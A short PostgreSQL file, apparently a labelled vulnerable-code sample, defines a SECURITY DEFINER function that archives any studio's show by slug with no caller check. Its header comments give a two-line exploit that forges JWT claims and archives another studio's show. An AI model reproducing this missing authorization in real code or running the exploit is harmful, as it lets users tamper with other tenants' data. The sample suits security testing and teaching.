-- The function archives any studio's show by its feed slug; it never asks who calls.
-- about: archive_show, episodes, shows
-- as: hf_micbooth_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT 'archived: ' || studio.archive_show('road-talk');
-- shows: archived: 1
CREATE FUNCTION studio.archive_show(p_slug text) RETURNS integer LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS $$
DECLARE n integer;
BEGIN
  UPDATE studio.episodes e SET status = 'archived'
  FROM studio.shows s
  WHERE s.studio_id = e.studio_id AND s.id = e.show_id AND s.feed_slug = p_slug;
  GET DIAGNOSTICS n = ROW_COUNT;
  RETURN n;
END $$;
GRANT EXECUTE ON FUNCTION studio.archive_show(text) TO hf_micbooth_app;
